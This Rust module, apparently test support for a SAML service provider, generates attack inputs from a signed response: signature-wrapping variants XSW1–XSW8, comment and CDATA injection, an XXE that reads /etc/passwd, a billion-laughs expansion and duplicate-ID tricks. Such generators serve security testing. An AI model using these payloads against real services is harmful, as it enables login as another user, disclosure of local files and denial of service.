//! Known attacks on SAML, made from a validly signed response by editing its text.
//!
//! XSW1–XSW8 follow the signature-wrapping taxonomy of Somorovsky et al., "On Breaking
//! SAML: Be Whoever You Want to Be" (USENIX Security 2012): each keeps the original,
//! validly signed element somewhere the signature still resolves to, and puts an evil
//! element (another identity) where a naive SP reads. `victim` is the identity the
//! evil copy claims instead of `signed_as`.

use crate::tools::assertion_span;

fn span(xml: &str, open: &str, close: &str) -> (usize, usize) {
    let start = xml.find(open).unwrap_or_else(|| panic!("no {open}"));
    let end = start + xml[start..].find(close).unwrap_or_else(|| panic!("no {close}")) + close.len();
    (start, end)
}

/// The first `ds:Signature` element after `from`.
fn signature_span(xml: &str, from: usize) -> (usize, usize) {
    let (s, e) = span(&xml[from..], "<ds:Signature", "</ds:Signature>");
    (from + s, from + e)
}

/// The Response's own signature (not the assertion's).
fn response_signature_span(xml: &str) -> (usize, usize) {
    let (a, _) = assertion_span(xml);
    let (s, e) = signature_span(xml, 0);
    assert!(s < a, "the response is not signed");
    (s, e)
}

fn assertion_signature_span(xml: &str) -> (usize, usize) {
    let (a, _) = assertion_span(xml);
    signature_span(xml, a)
}

fn root_end(xml: &str) -> usize {
    xml.rfind("</").expect("a root end tag")
}

fn root_start(xml: &str) -> usize {
    let decl_end = if xml.starts_with("<?xml") {
        xml.find("?>").expect("decl") + 2
    } else {
        0
    };
    decl_end + xml[decl_end..].find('<').expect("a root")
}

fn evil(text: &str, signed_as: &str, victim: &str, new_id: Option<(&str, &str)>) -> String {
    let mut out = text.replace(signed_as, victim);
    if let Some((old, new)) = new_id {
        out = out.replace(&format!("ID=\"{old}\""), &format!("ID=\"{new}\""));
    }
    out
}

fn without(text: &str, (s, e): (usize, usize)) -> String {
    format!("{}{}", &text[..s], &text[e..])
}

/// Response-signed input. The evil Response carries the original signature, whose
/// `ds:Object` holds the original (signature-less) Response.
pub fn xsw1(signed: &str, response_id: &str, signed_as: &str, victim: &str) -> String {
    let sig = response_signature_span(signed);
    let original = without(
        &signed[root_start(signed)..],
        (sig.0 - root_start(signed), sig.1 - root_start(signed)),
    );
    let sig_text = &signed[sig.0..sig.1];
    let wrapped_sig = sig_text.replacen(
        "</ds:Signature>",
        &format!("<ds:Object>{original}</ds:Object></ds:Signature>"),
        1,
    );
    let evil_doc = evil(signed, signed_as, victim, Some((response_id, "_evil_response")));
    let esig = response_signature_span(&evil_doc);
    format!("{}{}{}", &evil_doc[..esig.0], wrapped_sig, &evil_doc[esig.1..])
}

/// As XSW1, with the original Response placed right before the signature instead.
pub fn xsw2(signed: &str, response_id: &str, signed_as: &str, victim: &str) -> String {
    let sig = response_signature_span(signed);
    let original = without(
        &signed[root_start(signed)..],
        (sig.0 - root_start(signed), sig.1 - root_start(signed)),
    );
    let evil_doc = evil(signed, signed_as, victim, Some((response_id, "_evil_response")));
    let esig = response_signature_span(&evil_doc);
    format!(
        "{}{}{}{}",
        &evil_doc[..esig.0],
        original,
        &signed[sig.0..sig.1],
        &evil_doc[esig.1..]
    )
}

fn evil_assertion_unsigned(signed: &str, assertion_id: &str, signed_as: &str, victim: &str) -> String {
    let (a0, a1) = assertion_span(signed);
    let sig = assertion_signature_span(signed);
    let unsigned = without(&signed[a0..a1], (sig.0 - a0, sig.1 - a0));
    evil(&unsigned, signed_as, victim, Some((assertion_id, "_evil_assertion")))
}

/// Assertion-signed input. An evil, unsigned assertion before the original one.
pub fn xsw3(signed: &str, assertion_id: &str, signed_as: &str, victim: &str) -> String {
    let (a0, _) = assertion_span(signed);
    let e = evil_assertion_unsigned(signed, assertion_id, signed_as, victim);
    format!("{}{}{}", &signed[..a0], e, &signed[a0..])
}

/// The evil assertion wraps the original one as its last child.
pub fn xsw4(signed: &str, assertion_id: &str, signed_as: &str, victim: &str) -> String {
    let (a0, a1) = assertion_span(signed);
    let e = evil_assertion_unsigned(signed, assertion_id, signed_as, victim);
    let close = e.rfind("</").expect("end tag");
    let wrapped = format!("{}{}{}", &e[..close], &signed[a0..a1], &e[close..]);
    format!("{}{}{}", &signed[..a0], wrapped, &signed[a1..])
}

/// The evil assertion keeps the original's signature (and ID); the original assertion
/// is appended at the end of the Response.
pub fn xsw5(signed: &str, signed_as: &str, victim: &str) -> String {
    let (a0, a1) = assertion_span(signed);
    let e = evil(&signed[a0..a1], signed_as, victim, None);
    let original = &signed[a0..a1];
    let doc = format!("{}{}{}", &signed[..a0], e, &signed[a1..]);
    let end = root_end(&doc);
    format!("{}{}{}", &doc[..end], original, &doc[end..])
}

/// The evil assertion keeps the signature; the original assertion sits inside the
/// signature's `ds:Object`.
pub fn xsw6(signed: &str, signed_as: &str, victim: &str) -> String {
    let (a0, a1) = assertion_span(signed);
    let original = signed[a0..a1].to_string();
    let doc = format!(
        "{}{}{}",
        &signed[..a0],
        evil(&original, signed_as, victim, None),
        &signed[a1..]
    );
    let sig = assertion_signature_span(&doc);
    let sig_text = doc[sig.0..sig.1].replacen(
        "</ds:Signature>",
        &format!("<ds:Object>{original}</ds:Object></ds:Signature>"),
        1,
    );
    format!("{}{}{}", &doc[..sig.0], sig_text, &doc[sig.1..])
}

/// The original assertion hidden in `samlp:Extensions`, the evil one in its place.
pub fn xsw7(signed: &str, assertion_id: &str, signed_as: &str, victim: &str, protocol_prefix: &str) -> String {
    let (a0, a1) = assertion_span(signed);
    let e = evil_assertion_unsigned(signed, assertion_id, signed_as, victim);
    let ext = format!(
        "<{protocol_prefix}:Extensions>{}</{protocol_prefix}:Extensions>",
        &signed[a0..a1]
    );
    format!("{}{}{}{}", &signed[..a0], ext, e, &signed[a1..])
}

/// The evil assertion keeps the signature; the original assertion, without its
/// signature, sits inside the signature's `ds:Object`.
pub fn xsw8(signed: &str, signed_as: &str, victim: &str) -> String {
    let (a0, a1) = assertion_span(signed);
    let sig = assertion_signature_span(signed);
    let original_unsigned = without(&signed[a0..a1], (sig.0 - a0, sig.1 - a0));
    let doc = format!(
        "{}{}{}",
        &signed[..a0],
        evil(&signed[a0..a1], signed_as, victim, None),
        &signed[a1..]
    );
    let sig = assertion_signature_span(&doc);
    let sig_text = doc[sig.0..sig.1].replacen(
        "</ds:Signature>",
        &format!("<ds:Object>{original_unsigned}</ds:Object></ds:Signature>"),
        1,
    );
    format!("{}{}{}", &doc[..sig.0], sig_text, &doc[sig.1..])
}

/// Splits `text` (as written in the document) after `at` characters with a comment.
pub fn comment_injection(signed: &str, text: &str, at: usize) -> String {
    signed.replace(
        &format!(">{text}<"),
        &format!(">{}<!---->{}<", &text[..at], &text[at..]),
    )
}

/// As [`comment_injection`], with the tail in a CDATA section.
pub fn cdata_injection(signed: &str, text: &str, at: usize) -> String {
    signed.replace(
        &format!(">{text}<"),
        &format!(">{}<![CDATA[{}]]><", &text[..at], &text[at..]),
    )
}

/// A DOCTYPE with an external entity used in the NameID.
pub fn xxe(signed: &str, name_id: &str) -> String {
    let body = signed.trim_start_matches(|c| c != '>').trim_start_matches('>');
    let body = if signed.starts_with("<?xml") { body } else { signed };
    format!(
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{}",
        body.replace(&format!(">{name_id}<"), ">&x;<")
    )
}

/// A billion-laughs entity expansion.
pub fn entity_expansion(signed: &str) -> String {
    let body = signed.trim_start_matches(|c| c != '>').trim_start_matches('>');
    let mut dtd = String::from("<!DOCTYPE r [<!ENTITY l0 \"lol\">");
    for i in 1..10 {
        dtd.push_str(&format!("<!ENTITY l{i} \"{}\">", format!("&l{};", i - 1).repeat(10)));
    }
    dtd.push_str("]>");
    format!(
        "<?xml version=\"1.0\"?>{dtd}{}",
        body.replacen("Issuer>", "Issuer>&l9;", 1)
    )
}

/// A second, separately signed assertion (from `other`) added to `signed`.
pub fn two_assertions(signed: &str, other: &str) -> String {
    let (o0, o1) = assertion_span(other);
    let (_, a1) = assertion_span(signed);
    format!("{}{}{}", &signed[..a1], &other[o0..o1], &signed[a1..])
}

/// An element carrying `id` (already the assertion's ID) added to the Response.
pub fn duplicate_id(signed: &str, id: &str) -> String {
    let (a0, _) = assertion_span(signed);
    format!(
        "{}<x:Dup xmlns:x=\"urn:x\" ID=\"{id}\"/>{}",
        &signed[..a0],
        &signed[a0..]
    )
}

/// Replaces the first occurrence of `from` with `to`.
pub fn edit(signed: &str, from: &str, to: &str) -> String {
    assert!(signed.contains(from), "{from} not found");
    signed.replacen(from, to, 1)
}
